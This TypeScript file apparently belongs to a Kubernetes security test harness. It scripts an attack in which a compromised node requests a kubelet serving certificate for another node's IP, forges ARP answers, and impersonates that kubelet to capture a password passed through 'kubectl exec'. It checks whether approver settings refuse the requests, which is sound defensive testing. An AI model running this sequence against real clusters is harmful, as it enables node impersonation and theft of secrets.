import { neighbour } from '../../attacker/position';
import { SERVING_SIGNER } from '../../kubelet/bootstrap';
import { addresses } from '../addresses';
import { requestNodeCertificate } from './certificate-request';
import { clientOn } from './client-on';
import { playOf } from './play';
import { poseAsKubelet } from './pose-as-kubelet';

export const rogueServingCsr = playOf({
  steps: [
    'node-2: openssl req -new -subj "/O=system:nodes/CN=system:node:node-1" -addext "subjectAltName=IP:10.0.0.11" … | kubectl create -f -',
    'node-2: openssl req -new -subj "/O=system:nodes/CN=system:node:node-2" -addext "subjectAltName=IP:10.0.0.11" … | kubectl create -f -',
    'attacker: forged ARP answers',
    'admin: kubectl logs web --tail=3',
    "admin: echo PASSWORD | kubectl exec -i web -- sh -c 'cat > /run/password'",
  ],
  options: {
    approver: {
      about: '--midplane-approve-kubelet-serving',
      oneOf: ['shape', 'node-addresses'],
    },
  },
  async play(stage, { options }) {
    const cluster = await stage.cluster({
      controllerSettings: { approveKubeletServing: options.approver },
    });
    await using thief = clientOn(cluster.attackerHost, cluster, {
      clientCertificate: cluster.pki.kubeletClients['node-2'],
    });
    const ask = (cn: string): string =>
      `openssl req -new -subj "/O=system:nodes/CN=system:node:${cn}" -addext "subjectAltName=IP:${addresses.node1}" … | kubectl create -f -`;
    const wanted = {
      signerName: SERVING_SIGNER,
      usage: 'server auth',
      altNames: { ipAddresses: [addresses.node1] },
    } as const;
    const foreign = await requestNodeCertificate(stage, thief, { ...wanted, node: 'node-1' });
    if (foreign.kind === 'failed') await stage.refused('node-2', ask('node-1'), foreign.text);
    const asked = await requestNodeCertificate(stage, thief, { ...wanted, node: 'node-2' });
    if (asked.kind === 'failed') return stage.refused('node-2', ask('node-2'), asked.text);
    await asked.decided();
    const { pair, text } = await asked.look();
    const gain = 'a certificate of the cluster’s authority for node-1’s address';
    if (pair === null) await stage.refused('node-2', ask('node-2'), text);
    else await stage.gained('node-2', ask('node-2'), text, gain);

    const position = neighbour(cluster.controlPlane, cluster.attackerHost, addresses.node1);
    const fake = await poseAsKubelet(stage, cluster, { address: addresses.node1, position, present: pair });
    await stage.did('attacker', 'forged ARP answers', position.describe());
    await fake.isAskedFor('web');
  },
});
